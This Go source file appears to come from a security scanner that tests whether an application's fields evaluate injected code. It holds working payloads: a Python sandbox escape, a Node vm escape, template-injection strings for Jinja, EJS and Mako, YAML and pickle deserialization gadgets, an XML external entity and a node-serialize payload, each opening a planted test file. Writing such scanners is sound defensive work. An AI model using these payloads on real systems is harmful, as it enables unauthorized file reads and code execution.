package attack

import (
	"cmp"
	"encoding/base64"
	"slices"
	"strings"

	"github.com/mcpaudit/mcpaudit/runner/inputs"
	"github.com/mcpaudit/mcpaudit/runner/lazyregexp"
)

// Expressions that open a planted file when they are evaluated, and are an odd text to all
// else. That of Python needs no builtins, for who takes those away thinks that eval is safe.
const (
	python     = `[c for c in ().__class__.__base__.__subclasses__() if c.__name__=="_wrap_close"][0].__init__.__globals__["open"]("@",0)`
	javaScript = `import("fs").then(f=>f.readFileSync("@"))`
	// machine is for those who take a context of its own for a wall: what is handed into it
	// leads out.
	machine = `(p=>p.getBuiltinModule?p.getBuiltinModule("fs"):p.mainModule.require("fs"))(this.constructor.constructor("return process")()).readFileSync("@")`
)

// codeForms are the ways to write an expression into a value.
var codeForms = []form{
	evaluated("as an expression of Python", python),
	evaluated("as an expression of JavaScript", javaScript),
	behind("behind the value, as an expression of JavaScript", ","+javaScript),
	behind("behind the value, as an expression of Python", ","+python),
	evaluated("behind a single quote, as an expression of JavaScript", "'+"+javaScript+"+'"),
	evaluated("behind a double quote, as an expression of JavaScript", `"+`+strings.ReplaceAll(javaScript, `"`, "'")+`+"`),
	evaluated("behind a single quote, as an expression of Python", "'+str("+python+")+'"),
	evaluated("behind a double quote, as an expression of Python", `"+str(`+strings.ReplaceAll(python, `"`, "'")+`)+"`),
	evaluated("in a template of JavaScript", "${"+javaScript+"}"),
	evaluated("in a template of Jinja", `{{ cycler.__init__.__globals__.os.open("@",0) }}`),
	evaluated("as a call of open", `open("@")`),
	evaluated("as an expression of JavaScript for a context of its own", machine),
	evaluated("as YAML of Python", `!!python/object/apply:builtins.open ["@"]`),
	evaluated("in a template of EJS", `<%= process.getBuiltinModule("fs").readFileSync("@") %>`),
	evaluated("in a string of Python that is formatted", `{open("@")}`),
	evaluated("in a template of Mako", `${open("@")}`),
	pickled("as a pickle of Python, in Base64"),
	evaluated("as an external entity of XML", `<?xml version="1.0"?><!DOCTYPE note [<!ENTITY note SYSTEM "@">]><note>&note;</note>`),
	evaluated("as a function of node-serialize", `{"x":"_$$ND_FUNC$$_function(){`+machine+`}()"}`),
}

// maxCode is how many attempts of family Code there are against one target, maxCodeFields
// at how many places.
const (
	maxCode       = 40
	maxCodeFields = 2
)

// forCode are names of what may be evaluated.
var forCode = lazyregexp.New(`(?i)expr|formula|filter|template|condition|predicate|equation|query|transform|rule|spec|script|code|math|calc|yaml|xml|svg|feed|data|config|state|object`)

// codeSteps are the attempts of family Code: first at the places that are called like something
// to be evaluated.
func codeSteps(fields []field) (all []step) {
	fields = slices.DeleteFunc(slices.Clone(fields), func(f field) bool { return !f.text })
	slices.SortStableFunc(fields, func(a, b field) int { return rankCode(a) - rankCode(b) })
	for _, form := range codeForms {
		for i, field := range fields {
			if i < maxCodeFields && len(all) < maxCode {
				all = append(all, step{family: Code, form: form, field: field})
			}
		}
	}
	return all
}

// evaluated is a form by its expression: "@" stands for the file.
func evaluated(name, expression string) form {
	return form{name: name, write: func(f field, _ inputs.Mark, number int) string {
		return f.before + strings.ReplaceAll(expression, "@", file(number)) + f.behind
	}}
}

// behind is one that leaves the honest value before the expression, for a guard that looks at how a
// value begins, or a value that something is put before.
func behind(name, expression string) form {
	return form{name: name, write: func(f field, m inputs.Mark, number int) string {
		return f.before + cmp.Or(plain.FindString(f.core()), m.ID()) + strings.ReplaceAll(expression, "@", file(number)) + f.behind
	}}
}

// file is the one that an expression opens.
func file(number int) string { return inputs.OutsideFile(number, ".txt") }

// pickled is a form that opens the file when it is unpickled: protocol 0, which is text.
func pickled(name string) form {
	return form{name: name, write: func(f field, _ inputs.Mark, number int) string {
		return f.before + base64.StdEncoding.EncodeToString([]byte("cbuiltins\nopen\n(V"+file(number)+"\ntR.")) + f.behind
	}}
}

func rankCode(f field) int {
	if forCode.MatchString(f.name) {
		return 0
	}
	return 1
}
